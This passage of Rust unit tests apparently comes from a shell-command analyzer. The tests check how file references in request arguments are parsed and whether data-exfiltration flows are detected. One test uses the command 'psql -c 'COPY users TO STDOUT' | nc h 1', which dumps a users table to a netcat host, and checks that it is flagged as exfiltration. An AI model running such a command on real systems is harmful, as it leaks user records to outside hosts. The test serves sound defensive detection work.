        assert_eq!(body_file(FileForm::At, "a=1"), None);
        assert_eq!(body_file(FileForm::NameAt, "k@.env"), Some(".env"));
        assert_eq!(body_file(FileForm::NameAt, "k=@.env"), None);
        assert_eq!(body_file(FileForm::Form, "f=<key;type=text/plain"), Some("key"));
        assert_eq!(body_file(FileForm::Form, "f=x"), None);
        assert_eq!(body_file(FileForm::Value, "x"), Some("x"));
        assert_eq!(body_file(FileForm::None, "@x"), None);
        assert_eq!(request_item("k:=@a.json"), (true, Some("a.json")));
        assert_eq!(request_item("k=@a"), (true, Some("a")));
        assert_eq!(request_item("f@a;type=x"), (true, Some("a")));
        assert_eq!(request_item("k=v@x"), (true, None));
        assert_eq!(request_item("Accept:a@b"), (false, None));
        assert_eq!(request_item("q==1"), (false, None));
        assert_eq!(request_item("https://x"), (false, None));
        assert_eq!(request_item("plain"), (false, None));
        assert_eq!(request_item("é@ü"), (true, Some("ü")));
    }

    #[test]
    fn copy_out_is_a_source() {
        let text = "psql -c 'COPY users TO STDOUT' | nc h 1";
        let sc = crate::shell::parse(text, crate::shell::SpanMap::top(text.len()));
        let mut a = Analyzer::new(std::path::Path::new("/"));
        a.push(Fact::new("sql.copy", "COPY users TO STDOUT", Span::new(0, 10)).with("target", "stdout"));
        a.push(Fact::new("net.send", "nc", Span::new(33, 39)).with("program", "nc").with("host", "h").with("stdin", true));
        flows(&mut a, &sc, &[0..1, 1..2]);
        let ex: Vec<_> = a.facts.iter().filter(|f| f.kind == "net.exfil").collect();
        assert_eq!(ex.len(), 1);
        assert_eq!(ex[0].attrs["source"], "sql_copy_out");
    }
}
